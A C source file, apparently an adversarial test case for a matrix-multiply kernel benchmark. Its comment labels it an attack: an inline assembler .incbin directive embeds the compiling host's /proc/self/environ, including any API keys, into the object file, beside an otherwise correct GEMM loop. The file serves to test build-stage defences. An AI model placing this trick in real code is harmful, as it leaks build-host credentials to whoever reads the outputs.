/* Attack, on 8p_GEMM: the assembler's own environment (the host's, with
 * any API keys) pulled into the object, where the kernel could copy it into
 * its outputs. A correct kernel otherwise: only the compile can stop it. */
#include <omp.h>

__asm__(".section .rodata\n.globl ckb_env\nckb_env:\n.incbin \"/proc/self/environ\"\n"
        ".byte 0\n.previous");

void workload(const ckb_bf16 *A, const ckb_bf16 *B, ckb_bf16 *C)
{
#pragma omp parallel for
    for (long i = 0; i < M; i++)
        for (long j = 0; j < N; j++) {
            float acc = 0.0f;
            for (long k = 0; k < K; k++)
                acc += ckb_bf16_to_f32(A[i * K + k]) * ckb_bf16_to_f32(B[k * N + j]);
            C[i * N + j] = ckb_f32_to_bf16(acc);
        }
}
